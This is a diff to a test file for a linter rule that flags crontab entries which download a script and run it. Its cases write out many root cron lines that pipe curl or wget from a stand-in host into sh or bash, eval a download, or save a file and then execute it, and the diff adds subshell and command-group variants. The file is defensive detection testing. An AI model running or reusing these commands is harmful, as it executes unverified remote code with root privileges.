@@ -13,6 +13,9 @@ testRule(remoteCodeExec, {
     { text: '0 4 * * * root eval "$(wget -qO- https://x.example/env)"\n', errors: [{ line: 1, message: /`eval` runs the output of `wget`/ }] },
     { text: "0 4 * * * root sh -c 'curl -s https://x.example/a | sh'\n", errors: [{ line: 1, message: /curl … \| sh/ }] },
     { text: '0 4 * * * root cd /tmp && curl -s https://x.example/a | timeout 60 sh > /dev/null 2>&1\n', errors: [{ line: 1, message: /curl … \| sh/ }] },
+    { name: 'into a subshell', text: '*/5 * * * * root curl -fsSL https://x.example/i.sh | (sh)\n', errors: [{ line: 1, message: /`curl … \| sh`/ }] },
+    { name: 'into a group', text: '*/5 * * * * root curl -fsSL https://x.example/i.sh | { /bin/bash; }\n', errors: [{ line: 1, message: /`curl … \| bash`/ }] },
+    { name: 'from a subshell', text: '*/5 * * * * root (cd /tmp && wget -qO- https://x.example/i.sh) | sh\n', errors: [{ line: 1, message: /`wget … \| sh`/ }] },
     { text: '0 4 * * * alice python3 -c "$(curl -s https://x.example/a.py)"\n', errors: [{ line: 1, message: /python3` runs the output of `curl`/ }] },
     { text: '0 4 * * * root wget -q -O /tmp/i.sh https://x.example/i.sh && sh /tmp/i.sh\n', errors: [{ line: 1, message: '`wget` saves /tmp/i.sh and the job then runs it, unverified' }] },
     { text: '0 4 * * * root curl -fsSo /opt/agent https://x.example/agent; chmod +x /opt/agent; /opt/agent --once\n', errors: [{ line: 1, message: /`curl` saves \/opt\/agent/ }] },
@@ -26,6 +29,7 @@ testRule(remoteCodeExec, {
     { name: 'URL only mentioned', text: '0 * * * * root echo "curl https://x.example/i.sh | sh" >> /var/log/notes\n' },
     { name: 'grep over a download', text: '0 * * * * root curl -s https://x.example/status | grep -q OK || /usr/local/bin/alert\n' },
     { name: 'interpreter before the download', text: '0 * * * * root sh /opt/build.sh | curl -s -T - https://x.example/upload\n' },
+    { name: 'the same element: sh reads the job’s stdin, not curl’s output', text: '0 * * * * root { curl -fsS https://x.example/ping; sh; } | /usr/bin/logger -t x\n' },
     { name: 'substitution as data', text: '0 * * * * root echo "$(curl -s https://x.example/ip)" > /var/lib/ip\n' },
   ],
 });
